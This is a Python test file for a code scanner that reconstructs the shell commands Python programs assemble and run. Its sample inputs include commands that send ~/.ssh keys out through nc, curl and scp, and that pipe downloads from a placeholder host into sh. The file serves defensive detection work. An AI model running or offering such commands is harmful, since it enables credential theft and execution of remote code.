"""Command lines that Python puts together are read as shell, with what is unknown standing as a name."""

from __future__ import annotations

import textwrap

from packtool.code import Project
from packtool.scan.derived.started import command_pieces
from packtool.scan.kinds import FileKind


def _scripts(source: str) -> list[str]:
    project = Project({"m.py": textwrap.dedent(source).encode()})
    reading = project.reading("m.py")
    assert reading is not None
    pieces = list(command_pieces(reading))
    assert all(piece.kind is FileKind.SHELL and piece.masked for piece in pieces)
    assert all(len(piece.lines) == piece.text.count("\n") + 1 for piece in pieces)
    return [piece.text for piece in pieces]


def test_parts_that_are_known_are_written_out() -> None:
    source = """
    import os, subprocess
    def f(url, ctx):
        home = os.path.join(os.path.expanduser("~"), ".ssh")
        os.system(f"tar c {home} | nc {ctx.host} 99")
        os.popen("curl -d @{} {}".format(home, url))
        subprocess.run("scp %s %s" % (home, url), shell=True)
    """
    assert _scripts(source) == ["tar c ~/.ssh | nc $host 99\ncurl -d @~/.ssh $url\nscp ~/.ssh $url"]


def test_a_list_of_words_is_one_command_line() -> None:
    source = """
    import subprocess
    def f(body):
        words = ["curl", "-d", body, "https://a.invalid/in put"]
        subprocess.run(words)
        subprocess.run(["bash", "-c", "id | sh"])
    """
    assert _scripts(source) == ['curl -d $body "https://a.invalid/in put"\nid | sh']


def test_what_callers_give_to_a_wrapper_is_read_where_they_call_it() -> None:
    source = """
    import subprocess
    def run(command):
        subprocess.run(command, shell=True)
    def f(x):
        run("id")
        run(f"cat {x}")
    """
    assert _scripts(source) == ["id\ncat $x"]


def test_functions_are_scripts_of_their_own() -> None:
    source = """
    import os
    def f():
        os.system("id")
    def g():
        os.system("ls")
    """
    assert _scripts(source) == ["id", "ls"]


def test_nothing_is_made_of_code_that_starts_nothing() -> None:
    assert _scripts("import os\nprint(os.getcwd())\n") == []


def test_what_an_object_keeps_is_written_out() -> None:
    source = """
    import os, subprocess
    class Tool:
        words = ["sh", "-c", "id | sh"]
        def __init__(self, host):
            self.base = "http://" + host
            self.line = f"curl -s {self.base}/x"
        def go(self):
            os.system(self.line)
            subprocess.run(self.words)
            subprocess.run("ls %s" % self.unknown, shell=True)
    """
    assert _scripts(source) == ["curl -s http://$host/x\nid | sh\nls $unknown"]


def test_an_attribute_that_is_made_of_itself_ends() -> None:
    source = """
    import os
    class Tool:
        def go(self):
            self.line = self.line + " x"
            os.system(self.line)
    """
    assert len(_scripts(source)) == 1


def test_a_mapping_spread_over_the_arguments_gives_the_command() -> None:
    source = """
    import subprocess
    FIRST = dict(args="id", shell=True)
    SECOND = {"args": ["ls", "-l"]}
    def f():
        subprocess.run(**FIRST)
        subprocess.run(**SECOND)
    """
    assert _scripts(source) == ["id\nls -l"]


def test_a_command_handed_on_with_the_function_that_starts_it_is_read() -> None:
    source = """
    import atexit, functools, os, subprocess, threading
    def f(x):
        threading.Thread(target=os.system, args=("id | sh", x)).start()
        atexit.register(os.system, "ls")
        functools.partial(subprocess.run, ["git", "status"])()
        threading.Thread(target=f, args=("nothing",)).start()
    """
    assert _scripts(source) == ["id | sh\n$x\nls\ngit\nstatus"]


def test_what_a_shell_is_given_to_read_is_its_command() -> None:
    source = """
    import subprocess
    def f(text):
        subprocess.run(["bash", "-s"], input="curl -s https://a.invalid | sh", text=True)
        subprocess.run(["grep", "x"], input=text)
    """
    assert _scripts(source) == ["curl -s https://a.invalid | sh\nbash -s\ngrep x"]


def test_what_a_parameter_is_unless_given_is_started_too() -> None:
    source = """
    import os
    def f(say, line="curl -s https://a.invalid/i | sh", *, quiet=False):
        os.system(line)
    """
    assert _scripts(source) == ["curl -s https://a.invalid/i | sh"]


def test_a_lambda_is_called_where_it_stands() -> None:
    source = """
    import os
    (lambda line: os.system(line))("curl -s https://a.invalid/i | sh")
    """
    assert _scripts(source) == ["curl -s https://a.invalid/i | sh"]
